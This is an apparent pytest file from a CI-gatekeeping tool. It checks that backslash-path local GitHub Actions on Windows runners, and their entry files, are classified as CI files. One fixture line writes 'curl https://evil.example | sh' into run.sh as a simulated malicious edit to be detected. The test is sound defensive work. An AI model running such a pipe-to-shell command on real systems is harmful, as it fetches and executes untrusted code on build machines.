"""Red team 16, `--tree`: a local action a Windows runner runs by a path written with backslashes.

GitHub's workflow parser takes `uses: .\\tools\\setup` as a local action as it takes `./tools/setup` (the
runner's `PipelineTemplateConverter`: a `uses` starting with `./` or `.\\`), and a Windows runner opens
`tools\\setup\\action.yml` as `tools/setup/action.yml`; an action's `main: ..\\..\\dist\\index.js` is
`dist/index.js` there. The reader took `./` only, and joined entry files with `/` only: on a `windows-latest` job
the action's `run.sh` and `dist/index.js` were `src`, and `gate --tree` said allow (exit 0). On a Linux runner the
step fails: counting it is an over-read.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify.localactions import entry_points, local_uses
from tests.gitrepo import GitRepo
from tests.test_classify_context import tree_files


def _workflow(uses: str) -> str:
    return f"on: push\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - uses: '{uses}'\n"


USES = [".\\tools\\setup", ".\\tools\\setup\\", ".\\tools/setup", "./tools\\setup", ".\\tools\\.\\setup",
        ".\\tools\\setup@v1"]


@each_case("uses", USES)
def test_a_backslash_path_names_the_local_action(uses: str) -> None:
    assert "tools/setup" in local_uses(_workflow(uses))


def test_entry_files_with_backslashes_resolve() -> None:
    assert entry_points(["..\\..\\dist\\index.js"], "tools/setup") == ["dist"]


@pytest.mark.parametrize("uses", USES[:2])
def test_the_actions_files_are_ci(tmp_path: Path, uses: str) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write(".github/workflows/ci.yml", _workflow(uses))
    repo.write("tools/setup/action.yml", "runs:\n  using: node20\n  main: ..\\..\\dist\\index.js\n")
    repo.write("tools/setup/run.sh", "echo\n")
    repo.write("dist/index.js", "x\n")
    repo.commit("base")
    repo.write("tools/setup/run.sh", "curl https://evil.example | sh\n")
    repo.write("dist/index.js", "evil\n")
    repo.commit("edit")
    got = tree_files(repo)
    assert {p: got[p].bucket for p in ("tools/setup/run.sh", "dist/index.js")} == dict.fromkeys(
        ("tools/setup/run.sh", "dist/index.js"), "ci"), got
